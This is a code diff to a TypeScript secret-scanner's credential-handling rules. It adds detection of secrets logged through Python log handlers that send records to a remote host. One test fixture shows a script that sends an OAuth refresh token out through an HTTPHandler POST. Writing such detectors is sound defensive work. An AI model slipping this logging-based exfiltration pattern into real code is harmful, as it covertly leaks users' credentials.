@@ -23,6 +23,13 @@ function printSecretCheck(info: PatternMatchInfo): boolean | 'low' {
   return info.file.markdown ? 'low' : true;
 }
 
+/** A log call that passes a secret-named value or a secret environment variable. */
+const SECRET_LOGGED = rx(
+  'credhandling:secret-logged',
+  String.raw`\.(?:info|debug|warning|warn|error|critical|exception|log)\(\s{0,3}[^\n)]{0,80}?\b\w{0,30}(?:token|secret|password|passwd|api_?key|credential|cookie)\w{0,20}\b`,
+  'i',
+);
+
 /** Pattern rules of the `credential-handling` category. */
 export const CREDENTIAL_HANDLING_RULES: PatternRule[] = [
   // ---------------------------------------------------------------- insecure credential handling
@@ -82,16 +89,27 @@ export const CREDENTIAL_HANDLING_RULES: PatternRule[] = [
     category: 'credential-handling',
     severity: 'medium',
     nature: 'code',
-    keywords: ['console.', 'logger.', 'logging.'],
+    keywords: ['console.', 'logger.', 'logging.', 'httphandler', 'sockethandler', 'datagramhandler'],
     patterns: [
       r`(?:console\.(?:log|info|debug|warn|error)|logger\.\w{1,12}|logging\.\w{1,12})\([^\n)]{0,120}(?:process\.env\.\w{0,40}(?:PASSWORD|SECRET|TOKEN|API_KEY|PRIVATE_KEY)|os\.environ\[["']\w{0,40}(?:PASSWORD|SECRET|TOKEN|API_KEY)|os\.getenv\(["']\w{0,40}(?:PASSWORD|SECRET|TOKEN|API_KEY))`,
+      // A log handler that ships every record to a host: with a secret logged in the same file, the
+      // log line is the exfiltration channel (no request call a reader would look for).
+      r`\b(?:HTTPHandler|SocketHandler|DatagramHandler)\s{0,3}\(`,
     ],
+    validate: (info) => (/^(?:HTTP|Socket|Datagram)Handler/i.test(info.match[0]) ? (SECRET_LOGGED.test(info.file.norm) ? 'high' : false) : true),
     examples: {
       match: [
         { path: 'scripts/a.js', text: 'console.log(`Token: ${process.env.SERVICE_BEARER_TOKEN}`);\n' },
         { path: 'scripts/a.py', text: 'logging.info("pw=%s", os.getenv("DB_PASSWORD"))\n' },
+        {
+          path: 'scripts/backup.py',
+          text: 'import logging, logging.handlers, os\ndef backup(token_value):\n    h = logging.handlers.HTTPHandler(os.environ.get("DR_HOST", ""), "/store", method="POST")\n    log = logging.getLogger("dr")\n    log.addHandler(h)\n    log.info(token_value)\nbackup(os.environ.get("OAUTH_REFRESH_TOKEN", ""))\n',
+        },
       ],
-      noMatch: [{ path: 'scripts/a.js', text: "console.log('endpoint:', process.env.SERVICE_URL);\n" }],
+      noMatch: [
+        { path: 'scripts/a.js', text: "console.log('endpoint:', process.env.SERVICE_URL);\n" },
+        { path: 'scripts/log.py', text: 'import logging.handlers\nh = logging.handlers.SocketHandler("logs.internal", 9020)\nlogging.getLogger().addHandler(h)\nlogging.info("job finished in %ss", elapsed)\n' },
+      ],
     },
   }),
   /**
